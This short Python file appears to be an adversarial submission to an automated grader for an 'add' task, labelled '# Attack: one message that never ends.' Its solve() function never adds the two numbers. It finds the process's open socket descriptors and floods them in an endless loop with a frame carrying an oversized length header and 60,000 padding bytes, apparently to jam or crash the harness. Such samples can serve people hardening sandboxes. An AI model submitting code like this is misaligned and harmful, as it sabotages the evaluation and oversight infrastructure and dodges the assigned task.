# Attack: one message that never ends.
# task: add
import os
import stat


def solve(a, b):
    lines = [n for n in range(3, 64) if os.path.exists(f"/proc/self/fd/{n}") and stat.S_ISSOCK(os.fstat(n).st_mode)]
    while True:
        for number in lines:
            os.write(number, b"\x00\x0f\xff\xff" + b"x" * 60_000)
